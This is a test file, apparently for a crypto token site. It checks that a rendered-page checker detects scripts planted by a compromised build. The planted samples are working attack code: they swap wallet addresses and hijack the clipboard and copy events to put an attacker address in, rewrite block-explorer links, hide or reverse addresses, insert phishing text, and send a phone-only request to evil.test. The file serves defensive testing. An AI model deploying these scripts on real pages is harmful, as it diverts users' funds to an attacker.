import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, expect, inject, test, vi } from 'vitest';
import { isHydrated } from '../../scripts/lib/page.ts';
import { freePort } from '../../scripts/lib/server.ts';
import { renderedPageProblems } from '../../scripts/rendered-page/rendered-page.ts';
import { visitors } from '../../scripts/rendered-page/visitors.ts';
import { site } from './operator.ts';
import { loadVersion, removeVersions, workerFolder } from './stand-in/served-version.ts';

// Each run opens some fifteen pages and waits for each to settle.
vi.setConfig({ testTimeout: 240_000, hookTimeout: 120_000 });

const [desktop, phone] = visitors as [(typeof visitors)[0], (typeof visitors)[0]];
const EVIL = '0x52908400098527886E0F7030069857D2E4169EE7';

let server: Server;
let origin: string;
/** The visit on which copies are made, links pressed and the addresses looked at. */
const LATER = { on: ['later visit'] } as const;

/** A script that is planted in every document, as an attacker behind the build could. */
let planted = '';

beforeAll(async () => {
  const version = await loadVersion(await workerFolder(inject('builds').after));
  server = createServer(async (request, response) => {
    const answer = await version.answer(new Request(origin + request.url, { method: request.method! }));
    const headers = new Headers(answer.headers);
    if (planted) for (const name of ['content-security-policy', 'integrity-policy']) headers.delete(name);
    const body = Buffer.from(await answer.arrayBuffer());
    const isDocument = headers.get('content-type')?.startsWith('text/html');
    const changed = isDocument && planted ? `${body}<script>${planted}</script>` : body;
    response.writeHead(answer.status, Object.fromEntries(headers)).end(changed);
  });
  const port = await freePort();
  await new Promise<void>((done) => server.listen(port, '127.0.0.1', done));
  origin = `http://127.0.0.1:${port}`;
});
afterAll(async () => {
  server.close();
  await removeVersions();
});

/** Defines what the planted scripts call: React would undo a change that is made before it takes over. */
const LATER_ON = `
  const isHydrated = ${isHydrated};
  function later(work) {
    setTimeout(() => (isHydrated() ? setTimeout(work, 600) : later(work)), 50);
  }
`;

async function problems(script: string, options: Parameters<typeof renderedPageProblems>[2] = {}): Promise<string> {
  planted = LATER_ON + script;
  const found = await renderedPageProblems(origin, site, { who: [desktop], ...options });
  planted = '';
  return found.join('\n');
}

test('The built site shows every visitor what follows from its configuration', async () => {
  expect(await renderedPageProblems(origin, site)).toEqual([]);
});

test('A script’s changes after load are reported: an address, the title, a label, text in a style sheet, a frame', async () => {
  const found = await problems(`later(() => {
    document.querySelectorAll('code.address')[1]?.replaceChildren('${EVIL}');
    document.title = 'Claim now';
    document.querySelector('footer [aria-label]').setAttribute('aria-label', 'Airdrop');
    document.documentElement.insertAdjacentHTML('beforeend',
      '<style>h1::after{content:" now at cl" "aim-token.com"}</style>');
    document.body.append(document.createElement('iframe'));
    document.querySelector('footer p').attachShadow({ mode: 'closed' });
  })`);
  expect(found).toMatch(
    /\/index\.html, a desktop, first visit: it contains 0x52908400098527886E0F7030069857D2E4169EE7/,
  );
  expect(found).toMatch(/\/index\.html, .*: The contract cards show /);
  expect(found).toMatch(/\/privacy\.html, a desktop, later visit: the title is "Claim now"/);
  expect(found).toMatch(/\/terms\.html, .*: an attribute became .*aria-label="Airdrop"/);
  expect(found).toMatch(/\/404\.html, .*: the text became /);
  expect(found).toMatch(/it contains a <iframe>/);
  expect(found).toMatch(/an element has a shadow tree/);
});

test('A script’s interference with a copy or a pressed link is reported', async () => {
  const found = await problems(
    `later(() => {
    const write = navigator.clipboard.writeText.bind(navigator.clipboard);
    let copies = 0;
    navigator.clipboard.writeText = (text) => write(copies++ ? '${EVIL}' : text);
    addEventListener('copy', (event) => {
      event.clipboardData.setData('text/plain', '${EVIL}');
      event.preventDefault();
    });
    addEventListener('pointerdown', ({ target }) => {
      const link = target.closest('a[href*="bscscan"]');
      if (link) link.href = 'https://bscscan.com/token/${EVIL}';
    }, true);
  })`,
    LATER,
  );
  expect(found).toMatch(/copy button 2 puts \["0x5290/);
  expect(found).not.toMatch(/copy button 1 puts/);
  expect(found).toMatch(/copying address 1 by hand puts /);
  expect(found).toMatch(
    /the link to https:\/\/bscscan\.com\/token\/0xcD9F\S* leads to https:\/\/bscscan\.com\/token\/0x5290/,
  );
});

test('An address that is reversed or covered is reported, although its text is the configured one', async () => {
  const found = await problems(
    `later(() => {
    const cards = document.querySelectorAll('code.address');
    if (cards[0]) cards[0].style.direction = 'rtl', cards[0].style.unicodeBidi = 'bidi-override';
    if (cards[1]) {
      const cover = document.createElement('div');
      cover.style = 'position:absolute;inset:0';
      cards[1].parentElement.style.position = 'relative';
      cards[1].parentElement.append(cover);
    }
  })`,
    LATER,
  );
  expect(found).toMatch(/the characters of 0xcD9F\S* are not displayed in order/);
  expect(found).toMatch(/something covers CqmtagMade/);
});

test('A second copy, faint text, text from a style sheet and an overlay that lets presses through are reported', async () => {
  const found = await problems(
    `later(() => {
    const write = navigator.clipboard.writeText.bind(navigator.clipboard);
    const seen = new Set();
    navigator.clipboard.writeText = (text) => write(seen.has(text) ? '${EVIL}' : (seen.add(text), text));
    const [first, second] = document.querySelectorAll('code.address');
    if (!first) return;
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('code.address::after{content:"aabb"}');
    document.adoptedStyleSheets.push(sheet);
    first.style.color = 'transparent';
    const cover = document.createElement('div');
    cover.style = 'position:absolute;inset:0;pointer-events:none;background:#fff';
    second.parentElement.style.position = 'relative';
    second.parentElement.append(cover);
  })`,
    LATER,
  );
  expect(found).toMatch(/copy button 1, by keyboard, puts \["0x5290/);
  expect(found).not.toMatch(/copy button 1 puts/);
  expect(found).toMatch(/a style sheet adds text to 0xcD9F/);
  expect(found).toMatch(/0xcD9F\S* is displayed too faint/);
  expect(found).toMatch(/something covers CqmtagMade/);
});

test('An address around a hidden piece is reported', async () => {
  const [A, B] = [EVIL.slice(0, 20), EVIL.slice(20)];
  const found = await problems(
    `later(() => {
    const hidden = document.createElement('i');
    hidden.textContent = 'zz';
    hidden.className = 'gone';
    const sheet = new CSSStyleSheet();
    sheet.replaceSync('.gone{display:none}');
    document.adoptedStyleSheets.push(sheet);
    document.querySelector('footer p').replaceChildren('${A}', hidden, '${B}');
  })`,
    { on: ['first visit'] },
  );
  expect(found).toMatch(/it contains 0x52908400098527886E0F7030069857D2E4169EE7/);
});

test('A script that acts only on a phone is caught by the visit with one', async () => {
  const script = `if (/Android/.test(navigator.userAgent)) setTimeout(() => fetch('https://evil.test/').catch(() => 0), 300)`;
  expect(await problems(script, { on: ['first visit'] })).toBe('');
  expect(await problems(script, { who: [phone], on: ['first visit'] })).toMatch(
    /an Android phone, .*: it requests https:\/\/evil\.test\//,
  );
});

test('A page whose script never takes over is reported', async () => {
  const found = await problems('MessagePort.prototype.postMessage = () => {}', { on: ['first visit'] });
  expect(found).toMatch(/\/privacy\.html, .*: its script does not take over within 15 s/);
  expect(found).toMatch(/\/404\.html, .*: its script does not take over/);
  expect(found).not.toMatch(/its loader does not end/);
});

test('A loader that does not end is reported', async () => {
  const found = await problems(
    `const page = document.getElementById('page');
    page.inert = true;
    Object.defineProperty(page, 'inert', { get: () => true, set() {} });`,
    { on: ['first visit'] },
  );
  expect(found).toMatch(/\/index\.html, .*: its loader does not end within 15 s/);
});
